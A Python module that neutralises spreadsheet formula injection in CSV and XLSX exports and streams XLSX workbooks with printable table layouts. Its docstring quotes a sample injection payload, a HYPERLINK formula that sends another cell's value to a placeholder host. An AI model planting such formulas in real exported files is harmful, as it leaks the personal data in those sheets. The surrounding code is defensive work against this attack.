"""Spreadsheet cells that leave the system, and the one streaming XLSX writer.

Names and other text come from other departments' lists: a person may be called
`=HYPERLINK("http://x/?"&C2,"click")`. OWASP's CSV injection guidance: a cell whose text
begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a spreadsheet
program, so such a cell must be written as text. `is_formula_like` is the one test of that
(also after leading white space, which spreadsheet programs skip, and for the full-width
forms, which some of them read as the ASCII ones, and for any control character):

- in CSV, `csv_text` puts an apostrophe before it (the spreadsheet shows the text and keeps
  the apostrophe out of sight);
- in XLSX, `XlsxWriter` writes every text as an inline string (never a formula), and
  marks such a cell "quote prefix" too, so editing it does not turn it into one.

`XlsxWriter` streams rows straight into the ZIP member of their sheet: no temporary file
(openpyxl's write-only mode keeps each sheet in a temporary file under the system's temp
directory until it saves, where a crash leaves it, full of names and ID numbers), and
memory stays flat. Numbers (int, Decimal) are number cells; everything else is text.

`XlsxWriter.table` lays a sheet out as an office prints it: a bold title row, a bold header
row frozen below it with an autofilter, column widths, landscape pages fitted to the width
with the header repeated on each page; a "text" column (ID numbers, accounts) is formatted
as text, a "money" column holds numbers formatted 0.00, so SUM adds them.
"""

from __future__ import annotations

import unicodedata
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import IO, Any
from xml.sax.saxutils import escape

_FORMULA_START = frozenset("=+-@\t\r＝＋－＠")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read `text` as a formula (see the module)."""
    if not text:
        return False
    if unicodedata.category(text[0]) == "Cc":
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in _FORMULA_START


def csv_text(value: object) -> str:
    """A cell as CSV text: numbers as they are, formula-like text behind an apostrophe."""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = "" if value is None else str(value)
    return "'" + text if is_formula_like(text) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_text(v) for v in values]


# -- XLSX -----------------------------------------------------------------------------------

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_STYLES = (
    _HEAD + f'<styleSheet xmlns="{_NS}">'
    '<fonts count="3"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="14"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="6"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1" '
    'applyNumberFormat="1"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="0" fontId="2" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="2" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs>"
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


# cellXfs above: quote prefix, bold header, title, text format, money (0.00)
_QUOTED, _HEADER, _TITLE, _TEXT, _MONEY = 1, 2, 3, 4, 5


@dataclass(frozen=True)
class Column:
    """A table column: its header, width (characters) and kind: "text" (stored and formatted
    as text: ID numbers, accounts), "money" (a number formatted 0.00) or "" (as the value)."""

    header: str
    width: float = 12
    kind: str = ""


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _xml_text(text: str) -> str:
    # characters XML 1.0 cannot hold at all are dropped (a control character in a name)
    clean = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20)
    return escape(clean)


class XlsxWriter:
    """A workbook written sheet by sheet, row by row, into `out` (a binary file)."""

    def __init__(self, out: IO[bytes]) -> None:
        self._zip = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED)
        self._titles: list[str] = []
        self._sheet: IO[bytes] | None = None
        self._row = 0
        self._kinds: Sequence[str] = ()
        self._table: tuple[int, int] | None = None  # (header row, columns) of a table sheet
        self._print_titles: dict[int, int] = {}  # sheet index -> header row

    def sheet(self, title: str) -> None:
        """Start a new sheet (the one before it is finished)."""
        self._start(title, "")

    def table(self, title: str, heading: str, columns: Sequence[Column]) -> None:
        """Start a sheet laid out for printing (see the module): `heading` in row 1, the
        columns' headers in row 2; rows appended after it take the columns' kinds."""
        n = len(columns)
        cols = "".join(
            f'<col min="{i}" max="{i}" width="{c.width}" customWidth="1"/>'
            for i, c in enumerate(columns, start=1)
        )
        self._start(
            title,
            '<sheetPr><pageSetUpPr fitToPage="1"/></sheetPr>'
            '<sheetViews><sheetView workbookViewId="0"><pane ySplit="2" topLeftCell="A3" '
            'activePane="bottomLeft" state="frozen"/></sheetView></sheetViews>'
            f"<cols>{cols}</cols>",
        )
        self._write_row([heading], [_TITLE])
        self._write_row([c.header for c in columns], [_HEADER] * n)
        self._kinds = [c.kind for c in columns]
        self._table = (2, n)
        self._print_titles[len(self._titles) - 1] = 2

    def _start(self, title: str, before_data: str) -> None:
        self._end_sheet()
        self._titles.append(title)
        self._sheet = self._zip.open(f"xl/worksheets/sheet{len(self._titles)}.xml", "w")
        self._sheet.write(f'{_HEAD}<worksheet xmlns="{_NS}">{before_data}<sheetData>'.encode())
        self._row = 0
        self._kinds = ()
        self._table = None

    def append(self, values: Iterable[Any]) -> None:
        """One row: int and Decimal as numbers, None and "" empty, anything else as text."""
        self._write_row(
            values, [_MONEY if k == "money" else _TEXT if k == "text" else 0 for k in self._kinds]
        )

    def _write_row(self, values: Iterable[Any], styles: Sequence[int]) -> None:
        assert self._sheet is not None, "sheet() first"
        self._row += 1
        r = self._row
        cells = []
        for i, value in enumerate(values):
            ref = f"{_column(i)}{r}"
            if value is None or value == "":
                continue  # an empty cell, as spreadsheet programs save one
            style = styles[i] if i < len(styles) else 0
            if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
                if style == _TEXT:  # a number in a text column (an account) stays text
                    value = str(value)
                else:
                    s = f' s="{style}"' if style else ""
                    cells.append(f'<c r="{ref}"{s}><v>{value}</v></c>')
                    continue
            text = str(value)
            if is_formula_like(text):
                style = _QUOTED
            elif style == _MONEY:
                style = 0
            s = f' s="{style}"' if style else ""
            cells.append(
                f'<c r="{ref}" t="inlineStr"{s}><is><t xml:space="preserve">'
                f"{_xml_text(text)}</t></is></c>"
            )
        self._sheet.write(f'<row r="{r}">{"".join(cells)}</row>'.encode())

    def _end_sheet(self) -> None:
        if self._sheet is not None:
            after = ""
            if self._table is not None:
                header, n = self._table
                last = _column(n - 1)
                after = (
                    f'<autoFilter ref="A{header}:{last}{max(self._row, header)}"/>'
                    f'<mergeCells count="1"><mergeCell ref="A1:{last}1"/></mergeCells>'
                    '<pageMargins left="0.4" right="0.4" top="0.6" bottom="0.6" header="0.3" '
                    'footer="0.3"/>'
                    '<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" '
                    'fitToHeight="0"/>'
                )
            self._sheet.write(f"</sheetData>{after}</worksheet>".encode())
            self._sheet.close()
            self._sheet = None

    def close(self) -> None:
        """Finish the last sheet and write the workbook's parts around the sheets."""
        if not self._titles:
            self.sheet("Sheet1")
        self._end_sheet()
        n = len(self._titles)
        sheets = "".join(
            f'<sheet name="{escape(t, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
            for i, t in enumerate(self._titles, start=1)
        )
        parts = {
            "[Content_Types].xml": (
                f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                'content-types"><Default Extension="rels" ContentType="application/'
                'vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>'
                f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
                + "".join(
                    f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                    f'ContentType="{_CT}.worksheet+xml"/>'
                    for i in range(1, n + 1)
                )
                + "</Types>"
            ),
            "_rels/.rels": (
                f'{_HEAD}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
                f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'{_HEAD}<workbook xmlns="{_NS}" xmlns:r="{_REL}"><sheets>{sheets}</sheets>'
                f"{self._defined_names()}</workbook>"
            ),
            "xl/_rels/workbook.xml.rels": (
                f'{_HEAD}<Relationships xmlns="{_PKG}">'
                + "".join(
                    f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" '
                    f'Target="worksheets/sheet{i}.xml"/>'
                    for i in range(1, n + 1)
                )
                + f'<Relationship Id="rId{n + 1}" Type="{_REL}/styles" Target="styles.xml"/>'
                "</Relationships>"
            ),
            "xl/styles.xml": _STYLES,
        }
        for name, text in parts.items():
            self._zip.writestr(name, text)
        self._zip.close()

    def _defined_names(self) -> str:
        """Print titles: a table's rows up to its header repeat on every printed page."""
        if not self._print_titles:
            return ""
        names = "".join(
            f'<definedName name="_xlnm.Print_Titles" localSheetId="{i}">'
            f"{escape(_quoted_title(self._titles[i]))}!$1:${row}</definedName>"
            for i, row in sorted(self._print_titles.items())
        )
        return f"<definedNames>{names}</definedNames>"


def _quoted_title(title: str) -> str:
    return "'" + title.replace("'", "''") + "'"
